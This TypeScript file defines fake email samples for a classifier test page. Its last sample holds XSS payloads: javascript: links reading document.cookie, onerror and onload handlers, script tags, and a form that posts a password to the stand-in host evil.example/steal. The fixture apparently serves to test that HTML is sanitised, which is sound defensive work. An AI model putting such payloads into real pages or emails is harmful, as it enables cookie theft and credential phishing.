type SampleLabelKey = 'test.sample.urgent' | 'test.sample.newsletter' | 'test.sample.invoice' | 'test.sample.xss';

/** Ready-made fake emails for the test page: one per kind triage tells apart, and one that tries XSS. */
export interface EmailTestValues {
  from: string;
  subject: string;
  body: string;
  htmlBody: string;
}

/**
 * The samples' names are shown in the language of the page (keys of the catalog); the messages
 * themselves are test data for the classifier and stay as written.
 */
export const EMAIL_TEST_SAMPLES: { labelKey: SampleLabelKey; values: EmailTestValues }[] = [
  {
    labelKey: 'test.sample.urgent',
    values: {
      from: '"Grace Hopper" <grace@acme.example>',
      subject: 'URGENT: production outage, need your sign-off today',
      body: 'Hi,\n\nThe payment service is down since 09:12. We need your approval for the rollback before noon.\nPlease reply ASAP.\n\nThanks,\nGrace',
      htmlBody: '',
    },
  },
  {
    labelKey: 'test.sample.newsletter',
    values: {
      from: 'Weekly Digest <news@digest.example>',
      subject: 'Your weekly digest: 5 stories worth reading',
      body: '',
      htmlBody: [
        '<html><head><style>.card{border:1px solid #e5e7eb;border-radius:8px;padding:12px;margin:8px 0} h1{color:#4f46e5}</style></head><body>',
        '<h1>This week</h1>',
        '<div class="card"><b>Design systems</b> that scale — <a href="https://example.com/design">read more</a></div>',
        '<div class="card"><b>TypeScript 6</b> in practice — <a href="https://example.com/ts">read more</a></div>',
        '<p style="color:#6b7280;font-size:12px">You are receiving this newsletter because you subscribed. <a href="https://example.com/unsubscribe">Unsubscribe</a></p>',
        '</body></html>',
      ].join('\n'),
    },
  },
  {
    labelKey: 'test.sample.invoice',
    values: {
      from: 'billing@shop.example',
      subject: 'Invoice #4821 for your order',
      body: 'Thank you for your purchase. Your invoice total is $129.00, payment due in 14 days.',
      htmlBody: '',
    },
  },
  {
    labelKey: 'test.sample.xss',
    values: {
      from: 'attacker@evil.example',
      subject: 'Click here for a prize',
      body: '',
      htmlBody: [
        '<p>Congratulations! <a href="javascript:alert(document.cookie)">Claim your prize</a></p>',
        '<img src="x" onerror="alert(1)"><script>alert("xss")</script>',
        '<svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text y="20">svg link</text></a></svg>',
        '<form action="https://evil.example/steal"><input name="password" placeholder="Password"></form>',
        '<div style="background:url(javascript:alert(4))">Styled block</div>',
      ].join('\n'),
    },
  },
];
